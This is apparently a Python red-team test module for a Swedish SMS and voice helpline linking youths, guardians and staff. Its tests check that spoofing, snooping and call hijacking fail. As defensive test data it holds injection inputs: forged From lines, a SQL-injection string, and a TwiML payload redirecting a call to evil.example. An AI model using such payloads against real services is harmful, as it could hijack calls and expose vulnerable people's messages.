"""Whoever has a phone: a guardian towards the youth, a youth towards the guardian, a stranger, and odd texts."""

import sqlalchemy as sa

from bot.domain.people import LinkRole
from storage.tables import DeadlineRow, EpisodeRow, MessageRow, SummonsRow
from tests.acceptance.night import MYNDIGHET_NUMBER, NORRVIK, NUMBER
from tests.redteam import ways
from tests.redteam.attempts import ANYTHING, attempt
from tests.redteam.scenes import KUNGSLJUS, MALINS, NOVAS, STRANGERS, TUVSTARR, conversation_of
from tests.redteam.watch import House

GUARDIAN = "A guardian with a phone"
YOUTH = "A youth with a phone"
STRANGER = "A stranger with a phone"
PASSER_BY = "Whoever holds a phone that is not theirs"
MESSAGES: sa.Table = MessageRow.__table__  # type: ignore[attr-defined]


async def texted(house: House, number: str, body: str, *, to: str = NUMBER) -> list[str]:
    """Let a phone text us, and return what it is sent because of it."""
    phone = house.night.phone(number)
    before = len(phone.inbox())
    await house.night.sandbox.carrier.text(number, body, to)
    await house.night.settles()
    return [str(message["body"]) for message in phone.inbox()[before:]]


def said_in(house: House, conversation: str) -> int:
    return len(house.night.rows(sa.select(MESSAGES.c.id).where(MESSAGES.c.conversation_id == conversation)))


@attempt(
    GUARDIAN,
    "to learn what the youth has written",
    "a text that asks for it",
    "the automatic answer, which tells nothing",
    changes=ANYTHING,
)
async def guardian_asks(house: House) -> None:
    answers = await texted(house, MALINS, "Hej, har min dotter hört av sig till er? Vad skrev hon?")
    assert len(answers) == 1
    assert "112" in answers[0]
    house.kept["malins"] = await conversation_of(house, MALINS, NORRVIK)


@attempt(
    GUARDIAN,
    "to see the youth's conversation through staff",
    "her own conversation, opened by the person on duty",
    "none of the youth's words stand in it",
    changes=ANYTHING,
)
async def guardians_conversation(house: House) -> None:
    await ways.press(house, house.anna, "open", house.kept["malins"])
    shown = "\n".join(str(record.decoded) for record in house.night.sandbox.slack.recorder.records[-3:])
    assert "Vad skrev hon" in shown
    for words in (TUVSTARR, KUNGSLJUS, "ringer dig Vallmo om en stund"):
        assert words not in shown


@attempt(
    GUARDIAN,
    "to answer in the youth's stead",
    "a text that says it is from the youth",
    "it stands as the guardian's; the youth's is untouched",
    changes=ANYTHING,
)
async def guardian_pretends(house: House) -> None:
    before = said_in(house, house.ids["conversation"])
    await texted(house, MALINS, "Det är jag igen, allt är bra nu, ni behöver inte ringa")
    assert said_in(house, house.ids["conversation"]) == before
    assert said_in(house, house.kept["malins"]) >= 2


@attempt(
    GUARDIAN,
    "to be taken for the youth",
    "the youth's number in the body, in the name, and a forged From line",
    "the number that the carrier states counts",
    changes=ANYTHING,
)
async def guardian_spoofs(house: House) -> None:
    before = said_in(house, house.ids["conversation"])
    for body in ("From: +46701740601\r\nBody: hej", "+46 70 174 06 01", "&From=%2B46701740601&Body=hej"):
        await texted(house, MALINS, body)
    assert said_in(house, house.ids["conversation"]) == before


@attempt(
    YOUTH,
    "to learn what the guardian has written",
    "a text that asks for it",
    "no answer that tells anything",
    changes=ANYTHING,
)
async def youth_asks(house: House) -> None:
    answers = await texted(house, NOVAS, "har mamma skrivit nåt om mig till er")
    assert not any("mamma" in answer.casefold() or "vårdnadshavare" in answer.casefold() for answer in answers)


@attempt(
    STRANGER,
    "to learn whether somebody is known to us",
    "names and numbers in a text, and none",
    "the same answer to both: it confirms nothing",
    changes=ANYTHING,
)
async def stranger_asks(house: House) -> None:
    first = await texted(house, "+46701740630", "Jag söker Nova på 0701740605, är hon hos er?")
    second = await texted(house, "+46701740631", "hej")
    assert first == second
    assert len(first) == 1


@attempt(
    STRANGER,
    "to be given another's words",
    "eight texts in a row, words that programs obey among them",
    "one automatic answer in all",
    changes=ANYTHING,
)
async def stranger_insists(house: House) -> None:
    answers: list[str] = []
    for body in ("LOGG", "1", "länk", "kod", "STATUS", "/beredskap", "2", "JA"):
        answers += await texted(house, "+46701740632", body)
    assert len(answers) == 1


@attempt(
    STRANGER,
    "a link of the reservväg",
    "the word that staff write for it, from a phone that is none of theirs",
    "no link",
    changes=ANYTHING,
)
async def stranger_wants_a_link(house: House) -> None:
    answers = await texted(house, "+46701740633", "länk")
    assert not any("/reserv/" in answer for answer in answers)


@attempt(
    STRANGER,
    "to book or call off a family's time",
    "1, 2 and NEJ to the number of the authority",
    "no clock and no summons is touched",
    changes=ANYTHING,
)
async def stranger_answers_a_summons(house: House) -> None:
    tables = [vars(row)["__table__"] for row in (DeadlineRow, SummonsRow)]
    before = [house.night.rows(sa.select(table)) for table in tables]
    for body in ("1", "2", "NEJ", "K-9999"):
        await texted(house, STRANGERS, body, to=MYNDIGHET_NUMBER)
    assert [house.night.rows(sa.select(table)) for table in tables] == before


@attempt(
    YOUTH,
    "to reach the person on duty by the number of the authority",
    "a text at night to a number of the other world",
    "an honest answer; no card to whoever has the beredskap",
    changes=ANYTHING,
)
async def youth_writes_to_the_authority(house: House) -> None:
    cards = len(house.anna.cards())
    answers = await texted(house, NOVAS, "hej handläggaren", to=MYNDIGHET_NUMBER)
    assert len(answers) == 1
    assert len(house.anna.cards()) == cards


@attempt(
    PASSER_BY,
    "to learn from our answer who has written to whom",
    "a phone that a youth and a guardian share",
    "we only ask them to call",
    changes=ANYTHING,
)
async def a_shared_phone(house: House) -> None:
    _, youth = await house.night.enrols("Isa Fors", "+46701740634", NORRVIK)
    await house.night.enrols("Maj Fors", "+46701740634", NORRVIK, role=LinkRole.GUARDIAN, of=youth)
    [answer] = await texted(house, "+46701740634", "kan nån hjälpa mig")
    assert "ring" in answer.casefold()
    for word in ("sms", "meddelande", "läst", "Isa", "Maj", "familjebehandlare"):
        assert word.casefold() not in answer.casefold(), answer


@attempt(
    PASSER_BY,
    "to learn who calls, from a staff phone",
    "the words that are said before a key is pressed",
    "no number and no name; without the key nobody is put through",
    changes=ANYTHING,
)
async def whoever_answers_the_phone(house: House) -> None:
    for digits in ("", "2", "#", "11"):
        pairs = [("CallSid", "CA" + "5" * 32), ("From", NUMBER), ("To", "+46701740680"), ("Digits", digits)]
        assert await ways.carrier(house, "/twilio/voice/screen?l=ingen", pairs) == 200
        assert await ways.carrier(house, "/twilio/voice/pressed?l=ingen", pairs) == 200
    assert not house.shows("<Dial")


@attempt(
    PASSER_BY,
    "to take another's call",
    "the key 1 in a call of one's own, with the id of another call's phone",
    "hung up on",
    changes=ANYTHING,
)
async def anothers_call(house: House) -> None:
    for leg in ("1", "0" * 24, house.ids["conversation"], "' OR 1=1", ""):
        pairs = [("CallSid", "CA" + "6" * 32), ("From", STRANGERS), ("To", NUMBER), ("Digits", "1")]
        house.heard.clear()
        assert await ways.carrier(house, "/twilio/voice/pressed?l=" + leg.replace(" ", "%20"), pairs) == 200
        assert house.shows("<Hangup/>")
        assert not house.shows("<Dial")


@attempt(
    PASSER_BY,
    "to put orders to the carrier into a call",
    "TwiML in the key, the number and the query of a call",
    "it is escaped or not said",
    changes=ANYTHING,
)
async def orders_in_a_call(house: House) -> None:
    evil = '"/><Redirect>http://evil.example</Redirect><Say x="'
    pairs = [("CallSid", "CA" + "7" * 32), ("From", evil), ("To", NUMBER), ("Digits", evil), ("CallStatus", "ringing")]
    quoted = evil.replace('"', "%22").replace("<", "%3C").replace(">", "%3E").replace(" ", "%20")
    for door in ("incoming", "screen", "pressed", "next", "gather"):
        await ways.carrier(house, f"/twilio/voice/{door}?l={quoted}&s={quoted}", pairs)
    assert not house.shows("<Redirect")


@attempt(
    PASSER_BY,
    "to confirm an alarm in another's name",
    "the figure 1 texted from a phone that is no staff phone",
    "nothing is acknowledged",
    changes=ANYTHING,
)
async def acknowledges_as_another(house: House) -> None:
    await texted(house, "+46701740635", "1")
    assert [row.act for row in house.logged() if row.act == "text_from_staff_phone"] == []


@attempt(
    STRANGER,
    "to make us read a picture",
    "texts of 1,600 and 10,000 letters, of emoji, of nothing",
    "received whole; nothing fails",
    changes=ANYTHING,
)
async def long_texts(house: House) -> None:
    before = len(house.night.rows(sa.select(EpisodeRow.__table__.c.id)))  # type: ignore[attr-defined]
    for number, body in (("36", "å" * 1600), ("37", "x" * 10_000), ("38", "👩‍👩‍👧‍👦" * 300), ("39", " "), ("41", "\0")):
        sid = "SM" + number * 16
        assert await ways.carrier(house, "/twilio/sms", ways.sms(sid, body, f"+467017406{number}")) == 200
    await house.night.settles()
    assert len(house.night.rows(sa.select(EpisodeRow.__table__.c.id))) == before + 5  # type: ignore[attr-defined]
